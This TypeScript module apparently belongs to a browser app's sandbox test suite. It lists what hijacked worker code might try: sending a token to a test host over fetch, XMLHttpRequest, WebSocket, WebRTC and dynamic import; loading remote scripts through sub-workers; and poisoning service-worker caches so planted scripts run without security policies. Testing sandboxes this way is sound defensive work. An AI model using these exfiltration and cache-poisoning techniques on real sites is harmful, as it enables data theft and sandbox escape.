import type { Attempt } from './attempt.ts';

/**
 * What hostile code in a worker can try: a decoder that a crafted file has taken over. This text is put at the end of the
 * built worker files (see `hostile-build.ts`) and runs in them as if it were theirs.
 */
const settled = (opened: EventTarget) =>
  new Promise<void>((resolve, reject) => {
    for (const type of ['open', 'message'])
      opened.addEventListener(type, () => {
        resolve();
      });
    opened.addEventListener('error', () => {
      reject(new Error('refused'));
    });
  });

/** A sub-worker that holds nothing but this code. */
const workerOf = (code: string, type: WorkerType) =>
  settled(new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), { type }));

const post = (address: string) => {
  const asked = new XMLHttpRequest();
  asked.open('POST', address);
  asked.send('x');
  return settled(asked);
};

/** Waits for a request of the browser's store. */
const done = <T>(request: IDBRequest<T>) =>
  new Promise<T>((resolve, reject) => {
    request.onsuccess = () => {
      resolve(request.result);
    };
    request.onerror = () => {
      reject(new Error('refused'));
    };
  });

export const workerAttempts: Readonly<Record<string, Attempt>> = {
  fetch: ({ url }) => fetch(url, { mode: 'no-cors' }),
  'fetch over TLS': ({ host, token }) => fetch(`https://${host}/${token}`, { mode: 'no-cors' }),
  'fetch, own origin': ({ own, token }) => fetch(`${own}/api/v1/${token}`),
  XMLHttpRequest: ({ url }) => post(url),
  'XMLHttpRequest, own origin': ({ own, token }) => post(`${own}/api/v1/${token}`),
  WebSocket: ({ host, token }) => settled(new WebSocket(`ws://${host}/${token}`)),
  EventSource: ({ url }) => settled(new EventSource(url)),
  WebTransport: ({ host, token }) => new WebTransport(`https://${host}/${token}`).ready,
  WebRTC: async ({ host }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel('attempt');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'dynamic import': ({ url }) => import(url),
  'dynamic import, own origin': ({ own, token }) => import(`${own}/icon.svg?${token}`),
  // Side doors: what is laid down there goes out only if somebody takes it on. Nobody in the portal does.
  BroadcastChannel: ({ url }) => {
    for (const name of ['lintel', 'lintel-wipe', 'side-door']) new BroadcastChannel(name).postMessage({ url });
  },
  IndexedDB: async ({ url, token }) => {
    const opening = indexedDB.open(`side-door-${token}`, 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('urls');
    const database = await done(opening);
    await done(database.transaction('urls', 'readwrite').objectStore('urls').put(url, 'url'));
    database.close();
  },
  Cache: async ({ url, own, token }) => {
    await (await caches.open('side-door')).put(`${own}/${token}`, new Response(url));
  },
};

/** Those that start a worker below: each is made in a worker of its own, because Firefox may stop one that starts several. */
export const subWorkerAttempts: Readonly<Record<string, Attempt>> = {
  // The portal's workers are modules, which know no importScripts; a classic worker below them would.
  importScripts: ({ url }) => workerOf(`importScripts('${url}');`, 'classic'),
  'sub-worker': ({ url }) => workerOf(`import '${url}';`, 'module'),
  'sub-worker, own origin': ({ token }) => settled(new Worker(`${location.pathname}?${token}`, { type: 'module' })),
};

/** Those that go by what the service worker gives out of its caches, which every worker can write to. */
export const cacheAttempts: Readonly<Record<string, Attempt>> = {
  // A script without a policy, left where files of older versions are looked for, and started. It takes a socket, which no
  // service worker sees.
  'a script left in a cache': async ({ host, own, token }) => {
    const path = `/_app/immutable/workers/${token}.js`;
    const script = `new WebSocket('ws://${host}/${token}');`;
    const headers = { 'content-type': 'text/javascript', 'cross-origin-embedder-policy': 'require-corp' };
    for (const name of await caches.keys())
      await (await caches.open(name)).put(own + path, new Response(script, { headers }));
    return settled(new Worker(path, { type: 'module' }));
  },
  // The worker's own file, as it is, without its policy: whoever is started from it next is free. The test starts it.
  'its own file without a policy': async () => {
    const headers = { 'content-type': 'text/javascript', 'cross-origin-embedder-policy': 'require-corp' };
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const kept = new URL(request.url).pathname === location.pathname ? await cache.match(request) : undefined;
        if (kept !== undefined) await cache.put(request, new Response(await kept.arrayBuffer(), { headers }));
      }
    }
  },
};
